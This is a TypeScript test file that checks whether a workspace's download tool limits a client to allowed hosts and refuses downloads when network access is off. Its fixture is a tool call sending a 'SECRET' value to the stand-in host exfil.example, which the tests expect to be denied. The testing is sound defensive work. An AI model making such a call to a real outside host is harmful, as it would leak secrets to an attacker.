import { createMemoryAdapter } from '@ws/adapter-memory'
import { createWorkspace, rules } from '@ws/core'
import { createVirtualExecutor } from '@ws/executor-virtual'
import type { ToolsOptions } from '@ws/tools'
import { expect, it, onTestFinished } from 'vitest'

import { openHttp } from './support/clients.ts'
import { serveOne } from './support/serve.ts'

const call = { name: 'download', arguments: { url: 'http://exfil.example/?q=SECRET', path: '/x' } }

async function connect(allow: readonly string[] | undefined, downloads?: ToolsOptions['downloads']) {
  const network = allow && { allow, resolve: () => Promise.reject(new Error('asked')) }
  const workspace = await createWorkspace({
    mounts: [{ at: '/', adapter: () => createMemoryAdapter() }],
    rules: [rules.allowHosts(['packages.example'])],
    executors: [createVirtualExecutor({ network })],
  })
  onTestFinished(() => workspace.close())
  const events: string[] = []
  workspace.on('access', ({ operation, outcome, connection }) => {
    if (operation === 'connect') events.push(`${outcome} ${connection?.host}`)
  })
  const client = await openHttp((await serveOne(workspace, { tools: { face: 'split', downloads } })).url)
  onTestFinished(() => client.close())
  const names = (await client.listTools()).tools.map(({ name }) => name)
  return { client, events, names }
}

it.each([
  [['packages.example'], undefined, 'allowHosts'],
  [undefined, { hosts: ['a.example'] }, 'downloads'],
  [undefined, { hosts: 'public' }, 'allowHosts'],
] as const)('[RU14] a client downloads from listed hosts alone: commands %j, tools %j', async (allow, given, rule) => {
  const { client, events, names } = await connect(allow, given)
  expect(names).toContain('download')
  const answer = await client.callTool(call)
  expect(answer).toMatchObject({ isError: true, _meta: { 'ws/data': { code: 'EACCES' } } })
  expect(JSON.stringify(answer)).toContain(rule === 'downloads' ? 'downloads.hosts' : '`exfil.example`')
  expect(events).toEqual(['denied exfil.example'])
})

it.each([
  ['where commands have no network', undefined, undefined],
  ['where they are switched off', ['packages.example'], false],
] as const)('[RU14] a client is not offered downloads %s', async (_, allow, given) => {
  const { client, events, names } = await connect(allow, given)
  expect(names).not.toContain('download')
  const refused = await client.callTool(call).then(
    ({ isError }) => isError,
    () => true,
  )
  expect({ refused, events }).toEqual({ refused: true, events: [] })
})
